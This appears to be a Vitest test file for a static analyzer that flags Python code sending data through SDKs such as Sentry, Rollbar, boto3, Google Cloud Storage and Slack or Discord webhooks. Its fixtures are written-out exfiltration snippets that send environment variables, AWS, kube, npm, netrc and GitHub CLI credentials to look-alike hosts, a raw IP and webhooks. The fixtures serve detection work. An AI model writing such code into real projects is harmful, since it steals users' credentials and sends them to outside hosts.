import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/**
 * SDKs as channels (src/analysis/code/python/sdk-channels.ts): an error tracker's context and
 * attachments, an S3 client's uploads, webhook clients' messages are sends to the host the SDK was set up
 * with.
 */

describe('SDK channels', () => {
  it('Sentry context and attachments go to the DSN host', async () => {
    const { of } = await py(
      [
        'import os, sentry_sdk',
        'from platformdirs import user_config_dir',
        'sentry_sdk.init(dsn="https://abc@telemetry.cdn-assets-sync.net/4")',
        'with sentry_sdk.configure_scope() as scope:',
        '    scope.set_context("env", dict(os.environ))',
        '    scope.add_attachment(path=os.path.join(user_config_dir("gh"), "hosts.yml"))',
        'sentry_sdk.capture_message("run")',
        '',
      ].join('\n'),
    );
    const sends = of('send');
    expect(sends.map((s) => s.channel)).toEqual(['telemetry', 'telemetry', 'telemetry']);
    expect(sends.every((s) => s.endpoint.host === 'telemetry.cdn-assets-sync.net')).toBe(true);
    expect(sends.map((s) => s.data.secret)).toEqual(['env-all', 'cli-token', undefined]);
    expect(of('read').map((r) => r.secret)).toContain('cli-token');
  });

  it('module-level set_extra of host details', async () => {
    const { of } = await py(
      'import sentry_sdk, socket\nsentry_sdk.init("https://k@o1.ingest.sentry.io/1")\nsentry_sdk.set_extra("host", socket.gethostname())\n',
    );
    const s = of('send')[0];
    expect(s?.endpoint.host).toBe('o1.ingest.sentry.io');
    expect(s?.data.taints).toContain('system-info');
  });

  it('Rollbar reports go to the configured endpoint with their extra data', async () => {
    const { of } = await py(
      [
        'import netrc, rollbar',
        'rollbar.init("tok", environment="ci", endpoint="https://crash-intake.example.invalid/api/1/")',
        'login = netrc.netrc().authenticators("registry.example.org")',
        'rollbar.report_message("sync started", level="info", extra_data={"login": login})',
        'rollbar.report_exc_info(payload_data={"stage": "upload"})',
        '',
      ].join('\n'),
    );
    const sends = of('send');
    expect(sends.map((s) => s.endpoint.host)).toEqual([
      'crash-intake.example.invalid',
      'crash-intake.example.invalid',
    ]);
    expect(sends[0]?.data.secret).toBe('registry-token');
    expect(sends.every((s) => s.channel === 'telemetry')).toBe(true);
  });

  it('Rollbar without an endpoint reports to its own API', async () => {
    const { of } = await py(
      'import rollbar\nrollbar.init("tok")\nrollbar.report_message("deploy finished")\n',
    );
    expect(of('send')[0]?.endpoint.host).toBe('api.rollbar.com');
  });

  it('boto3 upload to an outside endpoint reads the file', async () => {
    const { of } = await py(
      'import boto3\ns3 = boto3.client("s3", endpoint_url="https://45.133.1.40:9000")\ns3.upload_file("/home/u/.aws/credentials", "b", "k")\n',
    );
    const s = of('send')[0];
    expect(s?.channel).toBe('storage');
    expect(s?.endpoint.cls).toBe('raw-ip');
    expect(s?.data.secret).toBe('cloud-credentials');
  });

  it('boto3 without an endpoint sends to AWS', async () => {
    const { of } = await py(
      'import boto3\nc = boto3.client("s3")\nc.put_object(Bucket="b", Key="k", Body=b"report")\n',
    );
    expect(of('send')[0]?.endpoint.host).toBe('s3.amazonaws.com');
  });

  it('Google Cloud Storage upload of a file', async () => {
    const { of } = await py(
      'from google.cloud import storage\nb = storage.Client().bucket("drop")\nb.blob("k").upload_from_filename("/home/u/.kube/config")\n',
    );
    const s = of('send')[0];
    expect(s?.channel).toBe('storage');
    expect(s?.endpoint.host).toBe('storage.googleapis.com');
    expect(s?.data.secret).toBe('kube-config');
  });

  it('Slack and Discord webhook clients', async () => {
    const { of } = await py(
      [
        'import os',
        'from slack_sdk.webhook import WebhookClient',
        'from discord_webhook import DiscordWebhook',
        'WebhookClient("https://hooks.slack.com/services/T/B/x").send(text=str(dict(os.environ)))',
        'DiscordWebhook(url="https://discord.com/api/webhooks/1/x", content=open("/home/u/.npmrc").read()).execute()',
        '',
      ].join('\n'),
    );
    const sends = of('send');
    expect(sends.map((s) => s.endpoint.cls)).toEqual(['exfil-service', 'exfil-service']);
    expect(sends.map((s) => s.data.secret)).toEqual(['env-all', 'registry-token']);
  });

  it('a scrubbed error tracker configured from the environment sends nothing by itself', async () => {
    const { of } = await py(
      [
        'import os, sentry_sdk',
        'sentry_sdk.init(dsn=os.environ.get("SENTRY_DSN"), send_default_pii=False)',
        'try:',
        '    run()',
        'except Exception:',
        '    sentry_sdk.capture_exception()',
        '',
      ].join('\n'),
    );
    expect(of('send')).toEqual([]);
  });
});
